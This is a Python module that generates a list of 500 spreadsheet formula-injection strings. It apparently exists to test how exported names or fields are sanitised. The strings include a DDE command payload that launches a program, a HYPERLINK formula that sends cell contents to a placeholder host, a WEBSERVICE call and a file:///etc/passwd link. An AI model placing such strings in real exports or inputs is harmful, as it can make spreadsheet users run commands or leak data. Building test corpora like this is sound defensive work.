"""Five hundred texts that somebody might put into a name to make a spreadsheet program do something."""

import itertools

_STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    "'",
    "'@",
    "\0=",
    "\x01=",
    "\ufeff=",
]
_BODIES = [
    "1+1",
    "SUM(1)",
    'HYPERLINK("http://x/?"&A1,"c")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://x")',
    "DDE(1;2;3)",
    "2+5+cmd|' /C calc'!A0",
    '"quoted","and,more"',
    "a;b\r\nc",
    "",
]
_BEFORE = ["", " ", "\u00a0 "]

_OTHERS = [
    *[
        "0012",
        "1E5",
        "-5",
        "-5.00",
        "+34911222333",
        "123456789012345678901234567890",
        "1/2/2026",
        "TRUE",
        "#REF!",
        "1,5",
    ],
    *["http://example.com", "mailto:a@b", "file:///etc/passwd", "internal:Sheet1!A1", r"\\host\share"],
    *[
        "_x0041_",
        "_x000D_",
        "_x005F_",
        "__x0041__",
        "<b>&\"'",
        "]]>",
        "<!--",
        "{=1}",
        "\x01\x08\x1f",
        "\x7f\x85",
        "\u2028",
    ],
    *[
        "'t Hooft",
        "O'Neil",
        "'",
        "''",
        "' ",
        " ",
        "  two",
        "two  ",
        "a\tb",
        "a\nb",
        "\u202e=1",
        "\u200b=1",
        "😀=1",
        "=",
        "-",
    ],
]

PAYLOADS: list[str] = list(
    dict.fromkeys(
        itertools.chain(
            _OTHERS, (before + start + body for start, body, before in itertools.product(_STARTS, _BODIES, _BEFORE))
        )
    )
)[:500]
